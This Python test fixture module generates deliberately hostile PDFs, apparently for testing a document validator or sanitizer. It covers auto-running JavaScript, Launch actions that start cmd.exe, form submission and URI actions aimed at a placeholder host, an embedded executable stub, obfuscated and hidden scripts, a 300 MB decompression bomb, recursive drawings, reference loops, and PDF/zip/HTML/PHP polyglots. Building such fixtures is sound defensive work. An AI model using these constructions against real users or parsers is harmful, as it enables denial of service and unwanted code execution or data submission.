"""PDFs made to hurt: they do something, hide something, or never end."""

import io
import zlib
from collections.abc import Callable

from pypdf import PdfWriter

from tests.documents.crafted import HTML, PHP, assembled, pdf, stream, zipped

Make = Callable[[], bytes]
ALERT = "/S/JavaScript/JS(app.alert\\(1\\))"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 11 0 R>>"


def locked(password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(password, "pemilik", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def opens(action: str) -> Make:
    """It does this as soon as it is opened."""
    return lambda: pdf(root=f"/OpenAction<<{action}>>")


def presses(action: str) -> Make:
    """It does this when a place on the page is pressed."""
    return lambda: pdf(f"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<<{action}>>>>")


def in_object_stream(body: str, root: str = "/OpenAction 10 0 R") -> bytes:
    """The catalogue and this object lie packed in a stream, with a table that is one too."""
    parts = [f"<</Type/Catalog/Pages 2 0 R{root}>>", body]
    head = f"1 0 10 {len(parts[0]) + 1} "
    packed = stream((head + " ".join(parts)).encode(), f"/Type/ObjStm/N 2/First {len(head)}")
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, thing in ((2, pages), (3, page), (4, packed)):
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, thing)
    table = len(out)
    plain = b"\1" + b"".join(b"\1" + places[n].to_bytes(4, "big") + b"\0" for n in (2, 3, 4))
    rows = b"\0" * 6 + b"\2\0\0\0\4\0" + plain[1:] + b"\1" + table.to_bytes(4, "big") + b"\0"
    rows += b"\2\0\0\0\4\1"
    listing = stream(rows, "/Type/XRef/W[1 4 1]/Index[0 6 10 1]/Size 11/Root 1 0 R")
    return bytes(out) + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (listing, table)


def many_pages(count: int, told: int) -> bytes:
    kids = " ".join(f"{10 + n} 0 R" for n in range(count))
    return assembled([
        (1, "<</Type/Catalog/Pages 2 0 R>>"),
        (2, f"<</Type/Pages/Count {told}/Kids[{kids}]>>"),
        *((10 + n, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>") for n in range(count)),
    ])  # fmt: skip


def circle() -> bytes:
    """Pages that contain themselves."""
    return assembled([
        (1, "<</Type/Catalog/Pages 2 0 R>>"),
        (2, "<</Type/Pages/Count 1/Kids[3 0 R]>>"),
        (3, "<</Type/Pages/Parent 2 0 R/Count 1/Kids[2 0 R]>>"),
    ])  # fmt: skip


def laughs() -> bytes:
    """A drawing that draws ten others, which draw ten others, twelve deep."""
    forms = [
        stream(
            b"/F Do " * 10 if deep < 12 else b"0 0 500 500 re f",
            f"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"
            f"/Resources<</XObject<</F {21 + deep} 0 R>>>>",
        )
        for deep in range(13)
    ]
    return assembled([
        (1, "<</Type/Catalog/Pages 2 0 R>>"),
        (2, "<</Type/Pages/Count 1/Kids[3 0 R]>>"),
        (3, PAGE.replace("/Contents", "/Resources<</XObject<</F 20 0 R>>>>/Contents")),
        (11, stream(b"/F Do")),
        *enumerate(forms, 20),
    ])  # fmt: skip


def many_strokes() -> bytes:
    """A page of very many long curves, packed small."""
    lines = b"0 0 m 595 842 100 0 300 800 c S 0 842 m 9 9 500 1 595 0 c B* " * 600_000
    return pdf("null", stream(b"9 w [1 1] 0 d " + lines))


def packed_catalogue() -> bytes:
    """An object stream that unpacks into 300 MB."""
    packer = zlib.compressobj(9)
    head = b"1 0 " + b"<</Type/Catalog/Pages 2 0 R>>"
    body = packer.compress(head)
    body += b"".join(packer.compress(b" " * 1_000_000) for _ in range(300)) + packer.flush()
    words = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    bomb = b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(body), words, body)
    whole = in_object_stream("<</S/GoTo/D[3 0 R/Fit]>>")
    at = whole.index(b"4 0 obj\n") + 8
    return whole[:at] + bomb + whole[whole.index(b"\nendobj", at) :]


def prev_loop() -> bytes:
    """A table that says that the one before it is itself; no catalogue in it."""
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
    return body + (
        b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 2/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(body), len(body))
    )


def nested() -> bytes:
    return pdf("[" * 100_000 + "]" * 100_000, root="/Extra 10 0 R")


def many_objects() -> bytes:
    return pdf("[" + "<</A 1>>" * 80_000 + "]", root="/Extra 10 0 R")


JS_NAMES = "/Names<</JavaScript<</Names[(a)10 0 R]>>>>"
FILES = "/Names<</EmbeddedFiles<</Names[(a)10 0 R]>>>>"
ACTIVE: dict[str, Make] = {
    "script in its names": lambda: pdf(f"<<{ALERT}>>", root=JS_NAMES),
    "script on opening": opens(ALERT),
    "launch on opening": opens("/S/Launch/F(cmd.exe)"),
    "address on opening": opens("/S/URI/URI(http://jahat.contoh/)"),
    "script when pressed": presses(ALERT),
    "launch when pressed": presses("/S/Launch/Win<</F(cmd.exe)>>"),
    "other file when pressed": presses("/S/GoToR/F(lain.pdf)/D[0/Fit]"),
    "inner file when pressed": presses("/S/GoToE/T<</R/C/N(a)>>"),
    "form sent": presses("/S/SubmitForm/F(http://jahat.contoh/)"),
    "data fetched": presses("/S/ImportData/F(data.fdf)"),
    "script when a page shows": lambda: pdf("null", stream(b""), root=f"/AA<</WC<<{ALERT}>>>>"),
    "file attached": lambda: pdf(
        "<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>", stream(b"MZ"), root=FILES
    ),
    "file on the page": lambda: pdf(
        "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 11 0 R>>", "<</EF<<>>>>"
    ),
    "rich media": lambda: pdf("<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"),
    "film": lambda: pdf("<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]>>"),
    "dynamic form": lambda: pdf(stream(b"<xdp:xdp/>"), root="/AcroForm<</Fields[]/XFA 10 0 R>>"),
    "script spelled otherwise": opens("/S/J#61vaScript/#4aS(app.alert\\(1\\))"),
    "script packed away": lambda: in_object_stream(f"<<{ALERT}>>"),
    "script that nothing points to": lambda: pdf("null", stream(b""), f"<<{ALERT}>>"),
    "dynamic form that nothing points to": lambda: pdf("null", stream(b""), "<</XFA 11 0 R>>"),
    "packed script that nothing points to": lambda: in_object_stream(f"<<{ALERT}>>", ""),
    "script in an older version": lambda: pdf(f"<<{ALERT}>>") + pdf()[9:],
}
PAPERS: dict[str, Make] = {
    **{f"pdf, {name}": make for name, make in ACTIVE.items()},
    "pdf, locked": lambda: locked("rahasia"),
    "pdf, locked for its owner": lambda: locked(""),
    "pdf of 21 pages": lambda: many_pages(21, 21),
    "pdf of 10.000 pages": lambda: many_pages(10_000, 10_000),
    "pdf of 10.000 pages that says 1": lambda: many_pages(10_000, 1),
    "pdf of no pages": lambda: many_pages(0, 0),
    "pdf, pages in a circle": circle,
    "pdf, tables in a circle": prev_loop,
    "pdf, drawings in drawings": laughs,
    "pdf, strokes without end": many_strokes,
    "pdf, packed bomb": packed_catalogue,
    "pdf, lists in lists": nested,
    "pdf of 80.000 things": many_objects,
    "pdf, only its start": lambda: b"%PDF-1.7\n",
    "pdf, half": lambda: pdf()[:150],
    "pdf behind words": lambda: b"halo\n" + pdf(),
    "pdf that is a zip": lambda: pdf() + zipped("halo.txt"),
    "pdf that is a page": lambda: pdf().replace(b"\n%\xe2", b"\n%" + HTML + b"\n%\xe2"),
    "pdf with php behind": lambda: pdf() + PHP,
}
